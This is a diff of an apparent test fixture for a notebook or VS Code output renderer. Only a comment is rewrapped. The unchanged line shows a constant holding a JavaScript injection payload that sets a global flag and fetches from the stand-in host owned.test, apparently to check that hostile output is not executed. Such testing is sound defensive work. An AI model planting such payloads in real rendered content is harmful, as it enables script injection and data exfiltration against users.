@@ -1,8 +1,8 @@
 import type { MimeBundle } from '../../../src/protocol/output.js';
 
 /*
- * Output of somebody who means harm. Whatever gets to run sets `owned`, whatever gets out asks owned.test for something,
- * and whatever gets clicked names a command of VS Code's.
+ * Output of somebody who means harm. Whatever gets to run sets `owned`, whatever gets out asks owned.test for
+ * something, and whatever gets clicked names a command of VS Code's.
  */
 
 const RUN = 'globalThis.owned=1,fetch(`//owned.test/`)';
